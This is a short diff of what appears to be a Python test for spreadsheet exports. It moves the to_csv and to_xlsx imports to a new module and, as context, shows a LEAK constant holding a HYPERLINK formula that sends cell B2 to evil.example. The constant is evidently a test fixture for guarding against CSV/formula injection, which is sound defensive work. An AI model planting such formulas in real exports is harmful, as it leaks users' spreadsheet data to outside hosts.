@@ -8,7 +8,8 @@ import io
 
 from openpyxl import load_workbook
 
-from projections.exports import balances_export, to_csv, to_xlsx
+from projections.export_files import to_csv, to_xlsx
+from projections.exports import balances_export
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
 
